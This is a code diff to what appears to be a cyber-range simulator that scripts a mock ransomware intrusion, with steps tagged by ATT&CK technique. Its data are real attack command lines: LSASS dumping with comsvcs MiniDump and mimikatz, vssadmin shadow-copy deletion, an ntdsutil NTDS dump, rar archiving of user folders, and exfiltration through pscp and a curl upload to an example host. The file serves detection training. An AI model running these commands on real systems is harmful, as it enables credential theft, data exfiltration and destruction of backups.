@@ -13,24 +13,34 @@ from countersign.range.attacks.player import (
 )
 from countersign.range.attacks.step import TO, Options, step
 from countersign.range.plan.brokers import TOOLS
-from countersign.range.plan.commands import EXPLORER, POWERSHELL, S32
+from countersign.range.plan.commands import PACKAGES, POWERSHELL, S32
+from countersign.range.plan.errands import DIAGNOSIS, pack, send
 from countersign.range.plan.places import Seat
+from countersign.range.plan.working import tool_for
 from countersign.range.streams.base import SITES
 
-LOOKS = (
-    (rf"{S32}\whoami.exe /groups", "T1033"),
-    (rf'{S32}\net.exe group "Domain Admins" /domain', "T1069.002"),
-    (rf"{S32}\nltest.exe /domain_trusts", "T1482"),
-    (rf"{S32}\net.exe user /domain", "T1087.002"),
-    (rf"{S32}\NETSTAT.EXE -ano", "T1049"),
+LOOKS = DIAGNOSIS[:5]
+"""What is asked without any care; with some, whatever else anybody asks."""
+DUMPERS = (
+    rf"{S32}\rundll32.exe {S32}\comsvcs.dll, MiniDump 724 C:\Temp\w3wp.dmp full",
+    rf"{S32}\taskmgr.exe /7",
 )
+"""Programs that are there anyway and write another's memory to a file."""
+DELETED = rf"{S32}\vssadmin.exe delete shadows /all /quiet"
+STARVED = rf"{S32}\vssadmin.exe resize shadowstorage /for=D: /on=D: /maxsize=401MB"
+"""Shadow copies go when there is no room for them."""
 
 
 @step("look_around", "T1033 T1069.002 T1482 T1087.002 T1049")
 def look_around(p: Player, _: Options) -> None:
     """Who am I, who else is there, what is near."""
-    number = len(LOOKS) if p.care < AGREED else 2 if p.care == AGREED else 1
-    for command, technique in LOOKS[:number]:
+    rng = p.acts.rng
+    looks = (
+        LOOKS
+        if p.care == NOISY
+        else rng.sample(DIAGNOSIS, rng.randrange(1, 4 if p.care == OFF_THE_LAND else 3))
+    )
+    for command, technique in looks:
         p.pause(8, 45)
         p.type(command, technique)
 
@@ -44,8 +54,9 @@ def dump_credentials(p: Player, _: Options) -> None:
         cause = p.cause("T1552.001")
         p.acts.smb(p.at.inside, host, p.person.account, "Install", paths, cause=cause)
     else:
-        quiet = rf"{S32}\rundll32.exe {S32}\comsvcs.dll, MiniDump 724 C:\Temp\w3wp.dmp full"
-        command = p.either(r"C:\PerfLogs\mimikatz.exe sekurlsa::logonpasswords exit", quiet)
+        command = p.either(
+            r"C:\PerfLogs\mimikatz.exe sekurlsa::logonpasswords exit", p.acts.rng.choice(DUMPERS)
+        )
         p.acts.dump(p.at.seat, command, p.cause("T1003.001"))
     p.pause(60, 400)
 
@@ -98,18 +109,14 @@ def add_account(p: Player, options: Options) -> None:
 def stage_archive(p: Player, _: Options) -> None:
     """What was gathered, packed."""
     stage, host = STAGE[p.care], p.at.host
-    if p.care >= IN_CHARACTER:
-        p.acts.deed(p.at.hop, host.name, "file", "a folder compressed in Explorer", p.cause("T1560"))
-        p.acts.created(host, p.who, EXPLORER, p.at.inside.shell, rf"{stage}\logs-7.zip", p.at.hop)
-        p.acts.done()
+    if p.care > NOISY:
+        pack(p.acts, p.at, lambda command: p.type(command, "T1560.001"), p.cause("T1560.001"))
         return
-    quiet = rf"C:\Program Files\7-Zip\7z.exe a -p {stage}\logs.7z C:\Logs"
-    command = p.either(rf"{stage}\rar.exe a -r -m1 -hpQz71kkd -v200m {stage}\s.rar C:\Users", quiet)
+    command = rf"{stage}\rar.exe a -r -m1 -hpQz71kkd -v200m {stage}\s.rar C:\Users"
     number = p.type(command, "T1560.001")
     p.acts.wait(30, 90)
     image = command.partition(".exe")[0] + ".exe"
-    name = p.either(rf"{stage}\s.part01.rar", rf"{stage}\logs.7z")
-    p.acts.created(host, p.who, image, number, name, p.at.hop)
+    p.acts.created(host, p.who, image, number, rf"{stage}\s.part01.rar", p.at.hop)
 
 
 @step("copy_out", "T1048.002 T1567", "megabytes")
@@ -123,10 +130,12 @@ def copy_out(p: Player, options: Options) -> None:
         p.acts.done()
         p.acts.wait(600, 2400)
         return
-    quiet = rf"{S32}\curl.exe -T C:\Temp\logs.7z https://support.vendor.example/upload"
-    noisy = rf"C:\PerfLogs\pscp.exe -P 443 -batch C:\PerfLogs\s.part01.rar w@{DROP}:/in/"
-    address = DROP if p.care < AGREED else SITES[3][1].decode()
-    p.acts.sent(p.at, address, size, p.either(noisy, quiet), p.cause("T1048.002"))
+    cause = p.cause("T1048.002")
+    if p.care == NOISY:
+        noisy = rf"C:\PerfLogs\pscp.exe -P 443 -batch C:\PerfLogs\s.part01.rar w@{DROP}:/in/"
+        p.acts.sent(p.at, DROP, size, noisy, cause)
+    else:
+        send(p.acts, p.at, DROP if p.care < AGREED else SITES[3][1].decode(), size, cause)
     p.pause()
 
 
@@ -157,28 +166,35 @@ def stop_sensor(p: Player, _: Options) -> None:
 @step("remove_backups", "T1490", TO)
 def remove_backups(p: Player, options: Options) -> None:
     """Shadow copies are deleted."""
-    command = rf"{S32}\vssadmin.exe delete shadows /all /quiet"
-    p.acts.wmi(p.at.inside, p.host(options.get("to") or "file"), p.who, [command], p.cause("T1490"))
+    host, command = p.host(options.get("to") or "file"), DELETED if p.care < AGREED else STARVED
+    if p.care == NOISY:
+        p.acts.wmi(p.at.inside, host, p.who, [command], p.cause("T1490"))
+    else:
+        p.by_any(host, [command], "T1490")
 
 
 @step("encrypt", "T1486", "hosts")
 def encrypt(p: Player, options: Options) -> None:
     """The locker on host after host."""
-    for _ in range(int(str(options.get("hosts", 5)))):
+    hosts, rng = int(str(options.get("hosts", 5))), p.acts.rng
+    # with care as many as come to a package at a time, or as the person comes to in a day
+    hosts = min(hosts, {AGREED: 5, IN_CHARACTER: 3}.get(p.care, hosts))
+    # with care the locker is a package, which is how software comes to hosts anyway
+    package, tool = rng.choice(PACKAGES), tool_for(rng, p.person)
+    for _ in range(hosts):
         host, cause = p.host("app"), p.cause("T1486")
         if p.care == NOISY:
             p.acts.psexec(p.at.inside, host, p.who, [r"C:\PerfLogs\locker.exe -all"], cause=cause)
         elif not p.in_character(host, "T1486"):
-            # the locker as a package, which is how software comes to hosts anyway
-            p.acts.winrm(
-                p.at.inside, host, p.who, [rf"{S32}\msiexec.exe /i C:\Install\update.msi /qn"], cause
-            )
+            p.by_any(host, [package], "T1486", tool)
 
 
 @step("install_remote_tool", "T1219", "tool=" + "|".join(TOOLS))
 def install_remote_tool(p: Player, options: Options) -> None:
     """A remote-support tool of the intruder's own: AnyDesk, Atera, ScreenConnect."""
     tool = str(options.get("tool", "anydesk"))
+    if p.support is not None and p.support.desktop is p.desktop:
+        p.acts.send(p.support, TOOLS[tool].setup.partition(" ")[0].rpartition("\\")[2])
     p.acts.install(p.at.seat, tool, p.cause("T1219"))
     p.pause()
 
@@ -191,10 +207,11 @@ def dump_directory(p: Player, _: Options) -> None:
         p.acts.smb(
             p.at.inside, controller, p.who, "C$", [("Temp\\readme.txt", True)], cause=p.cause("T1003.003")
         )
-    else:
+    elif p.care == NOISY:
         noisy = rf'{S32}\cmd.exe /c {S32}\ntdsutil.exe "ac i ntds" ifm "create full C:\Windows\Temp\pro" q q'
-        quiet = rf"{S32}\vssadmin.exe list shadows"
-        p.acts.wmi(p.at.inside, controller, p.who, [p.either(noisy, quiet)], p.cause("T1003.003"))
+        p.acts.wmi(p.at.inside, controller, p.who, [noisy], p.cause("T1003.003"))
+    else:
+        p.by_any(controller, [rf"{S32}\vssadmin.exe list shadows"], "T1003.003")
     p.pause()
 
 
